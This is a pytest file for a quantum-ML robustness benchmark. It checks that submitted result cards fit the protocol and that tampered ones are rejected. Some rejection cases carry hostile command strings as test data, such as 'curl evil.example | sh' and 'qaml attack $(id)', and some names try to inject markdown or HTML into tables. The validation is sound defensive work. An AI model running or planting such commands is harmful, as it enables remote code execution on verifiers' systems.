"""Cards of the benchmark: what fits its protocol, and what was tampered with or mistyped."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import qaml_qiskit
from qaml_qiskit.campaigns.benchmark.card import Card, read_card
from qaml_qiskit.campaigns.benchmark.collecting import (
    CSV_FILE,
    MARKDOWN_FILE,
    collect_cards,
    markdown_of,
    sorted_cards,
    verify_cards,
)
from qaml_qiskit.campaigns.benchmark.figures import rate
from qaml_qiskit.campaigns.benchmark.protocol import load_protocol
from qaml_qiskit.errors import InputError, QamlError
from qaml_qiskit.reports import to_csv

Plain = dict[str, Any]
CARDS = Path(qaml_qiskit.__file__).parent.parent / "runs" / "reference" / "benchmark"


#: Attacked images of the digits, and those of them that were right before in what follows.
ATTACKED, RIGHT = 10, 9


def card(name: str = "mine", weights: str = "0123456789abcdef", robust: int = 6) -> Plain:
    """A card on the digits whose numbers fit: of the attacked images, ``robust`` stay right."""
    protocol = load_protocol(1)
    arena = protocol.on("digits")
    figures: Plain = {}
    for figure, plan in protocol.figures.items():
        images = protocol.size(figure, arena)
        if plan.kind == "verdict":
            figures[figure] = {"value": "sound"}
        elif plan.kind == "number":
            figures[figure] = {"value": 300}
        elif images is not None:
            figures[figure] = rate(images // 2, images).model_dump(mode="json")
            if plan.kind != "rate":
                figures[figure]["count"] = None
    figures["robust_accuracy"] = rate(robust, ATTACKED).model_dump(mode="json")
    figures["misclassified_rate"] = rate(ATTACKED - robust, ATTACKED).model_dump(mode="json")
    figures["attack_success_rate"] = rate(RIGHT - robust, RIGHT).model_dump(mode="json")
    return {
        "protocol": {"version": 1, "fingerprint": protocol.fingerprint},
        "model": {"name": name, "kind": "qvc", "weights": weights, "parameters": 430},
        "data": {
            "dataset": "digits",
            "test_images": arena.test.images,
            "fingerprint": arena.test.fingerprint,
            "source": arena.source.model,
            "source_weights": arena.source.weights,
        },
        "figures": figures,
        "commands": {step: f"qaml {plan.command} mine" for step, plan in protocol.steps.items()},
        "versions": {"qaml-qiskit": "0.1.0"},
    }


def written(folder: Path, plain: Plain, name: str = "card") -> Path:
    path = folder / f"{name}.json"
    path.write_text(json.dumps(plain))
    return path


def test_a_card_that_fits(tmp_path: Path) -> None:
    read = read_card(written(tmp_path, card()))
    assert read == Card.model_validate(card())
    assert list(read.row)[:3] == ["model", "dataset", "clean_accuracy"]
    assert read.row["robust_accuracy"] == 6 / ATTACKED
    assert verify_cards(tmp_path).results == [{"card": "card.json", "model": "mine", "verdict": "fits", "why": ""}]


def figure(name: str, **changes: object) -> Callable[[Plain], None]:
    return lambda plain: plain["figures"][name].update(changes)


def part(name: str, **changes: object) -> Callable[[Plain], None]:
    return lambda plain: plain[name].update(changes)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (part("protocol", version=7), "no such version"),
        (part("protocol", fingerprint="0" * 16), "the protocol"),
        (part("data", dataset="cifar10"), "not defined for this data set"),
        (part("data", dataset="mnist"), "the number of test images"),
        (part("data", fingerprint="0" * 16), "the test images"),
        (part("data", source="digits10-linear"), "the source"),
        (part("data", source_weights="0" * 16), "the source's weights"),
        (part("model", weights="short"), "model.weights"),
        (part("commands", more="qaml demo"), "its commands"),
        (lambda plain: plain["commands"].pop("attack"), "no command that makes it"),
        (lambda plain: plain["figures"].pop("ece"), "its figures: got ece"),
        (lambda plain: plain.update(score=1), "score"),
        (figure("clean_accuracy", value=0.99), "clean_accuracy: got 0.99"),
        (figure("clean_accuracy", count=500), "clean_accuracy"),
        (figure("clean_accuracy", images=100), "the images of clean_accuracy"),
        (figure("clean_accuracy", interval=[0.9, 0.95]), "the interval of clean_accuracy"),
        (figure("clean_accuracy", count=None), "the count of clean_accuracy"),
        (figure("clean_accuracy", value=None, interval=None, images=None, count=None, reason="no time"), "no time"),
        (figure("robust_accuracy", value="all"), "a number"),
        (figure("robust_accuracy", **rate(7, ATTACKED).model_dump()), "misclassified_rate"),
        (figure("attack_success_rate", **rate(2, RIGHT).model_dump()), "attack_success_rate"),
        (figure("certified_accuracy", value=None), "no value and no reason"),
        (figure("certified_accuracy", value=None, reason="not applicable"), "an interval or a count of nothing"),
        (figure("ece", value=1.2), "ece: got 1.2"),
        (figure("ece", interval=[0.3, 0.1]), "the interval of ece"),
        (figure("two_qubit_gates", value=-3), "a number of gates"),
        (figure("audit", value=1), "audit: got 1; expected one of sound"),
        (figure("audit", value="quite sound"), "audit: got quite sound"),
        (part("commands", attack="curl evil.example | sh"), "the command of attack: got curl"),
        (part("commands", attack="qaml attack mine; rm x"), "the command of attack"),
        (part("commands", attack="qaml attack $(id)"), "the command of attack"),
        (part("commands", attack="qaml sweep mine"), "a call of qaml attack"),
        (part("commands", attack="qaml attack 'mine"), "the command of attack"),
        (lambda plain: plain.update(note="x" * 501), "note.*at most 500 characters"),
    ],
)
def test_cards_that_do_not_fit(change: Callable[[Plain], None], words: str, tmp_path: Path) -> None:
    plain = card()
    change(plain)
    path = written(tmp_path, plain)
    with pytest.raises(QamlError, match=words):
        read_card(path)
    found = verify_cards(path)
    assert found.problem is not None
    assert found.verdict == ["does not fit"]


def test_what_a_model_does_not_have_is_said(tmp_path: Path) -> None:
    plain = card()
    plain["figures"]["certified_accuracy"] = {"value": None, "reason": "not applicable: it is a network"}
    plain["figures"]["audit"] = {"value": None, "reason": "it cannot be audited"}
    del plain["commands"]["certify"]
    row = read_card(written(tmp_path, plain)).row
    assert (row["certified_accuracy"], row["certified_accuracy_interval"]) == (None, None)


def test_a_table_of_all_cards_is_derived(tmp_path: Path) -> None:
    written(tmp_path, card("weak", "1" * 16, robust=3), "a")
    written(tmp_path, card("strong", "2" * 16, robust=8), "b")
    assert collect_cards(tmp_path).model == ["strong", "weak"]
    lines = (tmp_path / CSV_FILE).read_text().splitlines()
    assert [line.split(",")[0] for line in lines] == ["model", "strong", "weak"]
    page = (tmp_path / MARKDOWN_FILE).read_text()
    assert "## digits, version 1" in page
    assert page.index("| strong |") < page.index("| weak |")
    # The same cards give the same bytes.
    before = page, lines
    collect_cards(tmp_path)
    assert ((tmp_path / MARKDOWN_FILE).read_text(), (tmp_path / CSV_FILE).read_text().splitlines()) == before


def test_a_filter_makes_another_row(tmp_path: Path) -> None:
    written(tmp_path, card("mine"), "a")
    written(tmp_path, card("mine@filter:median:3"), "b")
    assert collect_cards(tmp_path).model == ["mine", "mine@filter:median:3"]


def test_names_that_others_sent_are_text(tmp_path: Path) -> None:
    written(tmp_path, card("a|b\n<b>bold"))
    collect_cards(tmp_path)
    assert "| a\\|b &lt;b&gt;bold |" in (tmp_path / MARKDOWN_FILE).read_text()


def test_names_of_strangers_end_no_cell(tmp_path: Path) -> None:
    written(tmp_path, card("mine | 1.000 |\n| ours"), "a")
    collect_cards(tmp_path)
    rows = [line for line in (tmp_path / MARKDOWN_FILE).read_text().splitlines() if line.startswith("|")]
    assert len(rows) == 3
    assert len({line.replace("\\|", "").count("|") for line in rows}) == 1


def test_one_card_a_model(tmp_path: Path) -> None:
    written(tmp_path, card("mine"), "a")
    written(tmp_path, card("renamed"), "b")
    with pytest.raises(InputError, match="two cards are of the same model"):
        collect_cards(tmp_path)
    assert not (tmp_path / CSV_FILE).exists()


@pytest.mark.parametrize("function", [collect_cards, verify_cards])
def test_no_cards(function: Callable[[Path], object], tmp_path: Path) -> None:
    with pytest.raises(QamlError, match="no cards"):
        function(tmp_path)


@pytest.mark.skipif(not list(CARDS.glob("*.json")), reason="no cards are kept here")
def test_the_kept_table_is_that_of_the_kept_cards() -> None:
    cards = sorted_cards([read_card(path) for path in sorted(CARDS.glob("*.json"))])
    assert (CARDS / MARKDOWN_FILE).read_text() == markdown_of(cards)
    assert (CARDS / CSV_FILE).read_text() == to_csv([each.row for each in cards])
